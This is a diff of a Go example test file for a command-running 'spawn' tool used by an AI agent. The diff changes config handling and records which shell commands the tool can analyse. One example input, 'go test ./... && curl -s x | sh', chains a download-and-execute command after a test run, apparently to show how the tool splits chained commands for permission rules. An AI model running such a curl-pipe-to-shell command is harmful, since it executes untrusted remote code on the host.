@@ -19,7 +19,7 @@ func call(input string) contract.Call {
 // commands list lets a rule allow "go test ./..." without allowing what a
 // model might chain after it.
 func Example() {
-	tool, err := spawn.New(spawn.Config{Root: "/repo"})
+	tool, err := spawn.New(&spawn.Config{Root: "/repo"})
 	if err != nil {
 		panic(err)
 	}
@@ -39,12 +39,12 @@ func Example() {
 	// run "go test ./... && curl -s x | sh" in /repo
 	// {"body":"go test ./... && curl -s x | sh","commands":[["go","test","./..."],["curl","-s","x"],["sh"]],"cwd":"/repo","mode":"command","target":"local"}
 	// run "echo $HOME" in /repo
-	// {"body":"echo $HOME","commands":null,"cwd":"/repo","mode":"command","target":"local"}
+	// {"body":"echo $HOME","commands":null,"cwd":"/repo","mode":"command","target":"local","unanalysable":"a word has a parameter expansion ($NAME)"}
 	// spawn: there is no subagent here to take a task; to run a command instead, start the input with "!", as in "!go test ./..."
 }
 
 func ExampleTool_Execute() {
-	tool, err := spawn.New(spawn.Config{Root: "/", CommandEnv: []string{"GREETING=hello"}})
+	tool, err := spawn.New(&spawn.Config{Root: "/", CommandEnv: []string{"GREETING=hello"}})
 	if err != nil {
 		panic(err)
 	}
@@ -86,7 +86,7 @@ func ExampleCommandDelegator() {
 		Argv: []string{"/bin/sh", "-c", `echo "depth $BASIS_SPAWN_DEPTH: $(tr a-z A-Z)"`},
 		Env:  []string{"PATH=" + os.Getenv("PATH")},
 	}
-	tool, err := spawn.New(spawn.Config{Root: "/", Delegator: delegate})
+	tool, err := spawn.New(&spawn.Config{Root: "/", Delegator: delegate})
 	if err != nil {
 		panic(err)
 	}
